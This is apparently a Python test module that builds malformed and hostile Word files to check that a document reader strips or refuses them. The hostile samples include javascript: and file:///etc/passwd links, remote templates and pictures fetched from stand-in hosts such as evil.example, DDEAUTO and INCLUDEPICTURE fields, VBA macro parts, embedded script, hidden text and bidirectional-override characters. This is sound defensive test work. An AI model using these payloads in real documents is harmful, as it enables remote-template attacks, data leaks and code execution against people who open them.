"""Bad Word files, continued: what hides, calls out or is odd inside a file that is whole."""

from collections.abc import Iterator
from functools import partial

from tests.corpus.docx_parts import (
    CANARY,
    OFFICE,
    PROSE,
    SECRET,
    Row,
    W,
    para,
    parts,
    relations_part,
    word,
    zipped,
)


def links() -> Iterator[Row]:
    bad: tuple[str, ...] = (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "vbscript:x",
        "data:text/html,x",
    )
    bad += (
        "file:///etc/passwd",
        "//evil.example/x",
        "\\\\evil\\share",
        "ms-word:ofe|u|http://x",
        "http:\\\\evil",
        "https://",
        "mailto:",
    )
    for target in bad:
        yield Row(f"link to {target!r}", partial(_link, target), "read", absent=("href",))
    for target in (f"http://{CANARY}/x.png", "file:///etc/passwd", "\\\\evil\\share\\x.png"):
        yield Row(
            f"picture from {target}", partial(_picture, target), "read", told="left-out-pictures", absent=("<img",)
        )
    for target in (
        f"http://{CANARY}/t.dotm",
        "https://evil.example/t.dotx",
        "\\\\evil\\share\\t.dotm",
        "file://evil/t.dotm",
        "ftp://evil/t",
    ):
        yield Row(f"template from {target}", partial(_template, target), "refused")
    yield Row("template of the machine it was written on", partial(_template, "file:///C:/Users/x/Normal.dotm"), "read")
    yield Row("piece of HTML put in", _alt_chunk, "read", told="left-out-embedded")
    for name in ("word/vbaProject.bin", "word/vbaData.xml", "vbaProject.bin"):
        yield Row(f"macros in {name}", partial(lambda part: zipped(parts() | {part: b"x"}), name), "refused")
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Row("macros by content", partial(word, PROSE, "", macro), "refused")


def _link(target: str) -> bytes:
    shown = target.replace("\\", "&#92;").replace("\t", "&#9;").replace("&#92;", "\\")
    relation = f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="{shown}" TargetMode="External"/>'
    return word(f'<w:p><w:hyperlink r:id="r9"><w:r><w:t>the gate</w:t></w:r></w:hyperlink></w:p>{PROSE}', relation)


def _picture(target: str) -> bytes:
    relation = f'<Relationship Id="r9" Type="{OFFICE}/image" Target="{target}" TargetMode="External"/>'
    blip = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="r9"/>'
    return word(f"<w:p><w:r><w:drawing>{blip}</w:drawing></w:r></w:p>{PROSE}", relation)


def _template(target: str) -> bytes:
    relation = f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/>'
    made = parts(word__settings_dot_xml=f"<w:settings {W}/>")
    made["word/_rels/settings.xml.rels"] = relations_part(relation).encode()
    return zipped(made)


def _alt_chunk() -> bytes:
    relation = f'<Relationship Id="r9" Type="{OFFICE}/aFChunk" Target="x.html"/>'
    return word(f'<w:altChunk r:id="r9"/>{PROSE}', relation, word__x_dot_html=f"<script>{SECRET}</script>{SECRET}")


def unseen() -> Iterator[Row]:
    told = {
        "deleted text": (f"<w:p><w:del><w:r><w:delText>{SECRET}</w:delText></w:r></w:del></w:p>", "left-out-deleted"),
        "text moved away": (f"<w:p><w:moveFrom><w:r><w:t>{SECRET}</w:t></w:r></w:moveFrom></w:p>", "left-out-deleted"),
        "a deleted paragraph": (f"<w:del>{para(SECRET)}</w:del>", "left-out-deleted"),
        "inserted text": ("<w:p><w:ins><w:r><w:t>gladly</w:t></w:r></w:ins></w:p>", "left-out-inserted"),
        "hidden text": (para(SECRET, "<w:vanish/>"), "left-out-hidden"),
        "text hidden by style": (para(SECRET, '<w:rStyle w:val="h"/>'), "left-out-hidden"),
        "a comment": (f"<w:p><w:r><w:t>x</w:t><w:commentReference w:id='1'/></w:r></w:p>{PROSE}", "left-out-comments"),
        "a footnote": (f"<w:p><w:r><w:t>x</w:t><w:footnoteReference w:id='1'/></w:r></w:p>{PROSE}", "left-out-notes"),
        "a text box": (
            f"<w:p><w:r><w:pict><w:txbxContent>{para(SECRET)}</w:txbxContent></w:pict></w:r></w:p>",
            "left-out-boxes",
        ),
        "an object": ("<w:p><w:r><w:object/></w:r></w:p>", "left-out-embedded"),
    }
    styles = f'<w:styles {W}><w:style w:type="character" w:styleId="h"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    for kind, (body, code) in told.items():
        make = partial(
            word,
            body + PROSE,
            word__styles_dot_xml=styles,
            word__comments_dot_xml=f"<w:comments {W}>{para(SECRET)}</w:comments>",
        )
        yield Row(kind, make, "read", told=code)
    for field in (
        'INCLUDETEXT "x"',
        "DDE x y",
        "DDEAUTO c:\\\\x",
        f"INCLUDEPICTURE http://{CANARY}/f",
        "LINK Excel.Sheet x",
    ):
        body = f"<w:p><w:r><w:instrText>{field} {SECRET}</w:instrText></w:r><w:r><w:t>shown</w:t></w:r></w:p>{PROSE}"
        yield Row(f"field {field.split()[0]}", partial(word, body), "read", told="left-out-fields")
    for part in (
        "docProps/core.xml",
        "docProps/custom.xml",
        "customXml/item1.xml",
        "word/header1.xml",
        "word/footnotes.xml",
        "word/people.xml",
    ):
        yield Row(
            f"words in {part}",
            partial(lambda name: zipped(parts() | {name: f"<x>{SECRET}</x>".encode()}), part),
            "read",
        )


def odd() -> Iterator[Row]:
    texts = {"a nought": "a&#0;b", "half a letter": "a&#xD800;b", "a control": "a&#1;b"}
    for kind, text in texts.items():
        yield Row(f"{kind} in the text", partial(lambda inner: word(para(inner)), text), "refused")
    signs = {
        "directions turned": "a\u202eb\u2066c",
        "unseen signs": "a\u200bb\u00adc\ufeffd",
        "tags": "a\U000e0041b",
        "marks": "e" + "\u0301" * 50_000,
    }
    for kind, text in signs.items():
        absent = tuple(
            sign for sign in ("\u202e", "\u2066", "\u200b", "\u00ad", "\U000e0041", "\u0301" * 9) if sign in text
        )
        yield Row(kind, partial(lambda inner: word(para(inner) + PROSE), text), "read", absent=absent)
    yield Row("a word of 100,000 letters", lambda: word(para("a" * 100_000)), "refused")
    numbering = {
        "a huge start": '<w:start w:val="999999999999"/>',
        "a start below nought": '<w:start w:val="-5"/>',
        "letters for a start": '<w:start w:val="x"/>',
        "Roman numbers without end": '<w:numFmt w:val="upperRoman"/><w:start w:val="999999"/>',
        "letters without end": '<w:numFmt w:val="lowerLetter"/><w:start w:val="999999999"/>',
        "an unknown way": '<w:numFmt w:val="koreanDigital"/>',
    }
    for kind, inner in numbering.items():
        yield Row(f"numbering with {kind}", partial(_numbered, inner), "read")
    properties = {
        "level 99": '<w:pPr><w:numPr><w:ilvl w:val="99"/><w:numId w:val="1"/></w:numPr></w:pPr>',
        "an outline of 77": '<w:pPr><w:outlineLvl w:val="77"/></w:pPr>',
        "an outline in letters": '<w:pPr><w:outlineLvl w:val="x"/></w:pPr>',
        "a style that is not there": '<w:pPr><w:pStyle w:val="nowhere"/></w:pPr>',
    }
    for kind, inner in properties.items():
        yield Row(
            f"a paragraph with {kind}", partial(lambda head: word(para("Gates", "", head) + PROSE), inner), "read"
        )
    spans = {"a million columns": "1000000", "letters": "x", "less than none": "-1", "ten to the 30th": "1" + "0" * 30}
    for kind, width in spans.items():
        cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{width}"/></w:tcPr>{PROSE}</w:tc>'
        make = partial(lambda inner: word(f"<w:tbl><w:tr>{inner}</w:tr><w:tr>{inner}{inner}</w:tr></w:tbl>"), cell)
        yield Row(f"a cell over {kind}", make, "either")
    yield Row("styles in a ring", _ring, "read")
    yield Row("a size of a million", lambda: word(para("Gates", '<w:sz w:val="9999999"/>') + PROSE), "read")
    yield Row(
        "markup in the text",
        lambda: word(para("&lt;script&gt;alert(1)&lt;/script&gt;") + PROSE),
        "read",
        absent=("<script",),
    )


def _numbered(inner: str) -> bytes:
    numbering = (
        f'<w:numbering {W}><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0">{inner}<w:lvlText '
        f'w:val="%1.%9"/></w:lvl></w:abstractNum>'
    )
    numbering += '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    listed = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    return word(para("Shut the gate", "", listed) * 3 + PROSE, word__numbering_dot_xml=numbering)


def _ring() -> bytes:
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>' for a, b in ("xy", "yx")
    )
    return word(
        para("Gates", "", '<w:pPr><w:pStyle w:val="x"/></w:pPr>') + PROSE,
        word__styles_dot_xml=f"<w:styles {W}>{ring}</w:styles>",
    )
